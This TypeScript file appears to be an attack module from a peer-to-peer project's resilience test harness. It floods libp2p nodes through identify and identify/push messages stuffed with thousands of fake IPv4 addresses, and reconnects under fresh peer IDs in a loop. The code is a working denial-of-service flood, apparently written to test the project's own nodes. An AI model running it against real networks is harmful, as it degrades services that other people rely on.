import { setTimeout as sleep } from 'node:timers/promises';
import { publicKeyToProtobuf } from '@libp2p/crypto/keys';
import { peerIdFromString } from '@libp2p/peer-id';
import { concat, utf8 } from '../../../src/lib/bytes.ts';
import { type Attack, sentByAll, type Target } from '../attack.ts';
import { field, framed } from '../meshsub.ts';
import { connectRawStranger } from '../raw-stranger.ts';

const STRANGERS = 4;
/** What libp2p takes of one answer: so many messages, each so long. */
const MESSAGES = 10;
const MESSAGE_BYTES = 8_000;
/** The protobuf of an address of IPv4, which is the shortest there is. */
const ADDRESS_BYTES = 7;
const STAY_MS = 1_500;
const IDENTIFY = Buffer.from('/ipfs/id/1.0.0\n', 'latin1');
const PUSH = Buffer.from('/ipfs/id/push/1.0.0\n', 'latin1');
const HEADER = Buffer.from('\x13/multistream/1.0.0\n', 'latin1');

const negotiated = (line: Uint8Array, messages: Uint8Array): Uint8Array =>
  concat(HEADER, Uint8Array.of(line.length), line, messages);

/** Answers with its key, a version, and as many addresses as there is room for, each another one. */
const answerOf = (name: string): Uint8Array => {
  const { publicKey } = peerIdFromString(name);
  const self = publicKey === undefined ? [] : [field(1, publicKeyToProtobuf(publicKey)), field(6, utf8('x'))];
  const perMessage = Math.floor(MESSAGE_BYTES / ADDRESS_BYTES);
  const messages = Array.from({ length: MESSAGES }, (_, message) => {
    const addresses = Array.from({ length: perMessage }, (__, i) => {
      const address = message * perMessage + i;
      return field(2, Uint8Array.of(4, 1, address >>> 8, address & 0xff, 9));
    });
    return framed(concat(...(message === 0 ? self : []), ...addresses));
  });
  return concat(...messages);
};

/** Answers identify, and nothing else, so that it stays; then says the same unasked, and comes back under a new name. */
const flood = async ({ p2p }: Target, signal: AbortSignal): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    const stranger = await connectRawStranger(p2p.multiaddr, {
      onStream: (stream, name) =>
        stream.addEventListener('message', ({ data }) => {
          if (!Buffer.from(data.subarray()).includes(IDENTIFY)) return;
          const answer = negotiated(IDENTIFY, answerOf(name));
          sent += answer.length;
          stream.send(answer);
          void stream.close().catch(() => undefined);
        }),
    }).catch(() => undefined);
    await sleep(STAY_MS, undefined, { signal }).catch(() => undefined);
    // Its connection may have ended.
    const stream = await stranger?.openRaw().catch(() => undefined);
    if (stranger !== undefined && stream?.writeStatus === 'writable') {
      const pushed = negotiated(PUSH, answerOf(stranger.name));
      sent += pushed.length;
      stream.send(pushed);
    }
    await stranger?.stop();
  }
  return sent;
};

export const attack: Attack = {
  name: 'identify-answers',
  what: `${STRANGERS} strangers at each node say in identify that they have ${MESSAGES * Math.floor(MESSAGE_BYTES / ADDRESS_BYTES)} addresses, and come back under a new name.`,
  run: async ({ targets }, signal) =>
    sentByAll(targets.flatMap((target) => Array.from({ length: STRANGERS }, () => flood(target, signal)))),
};
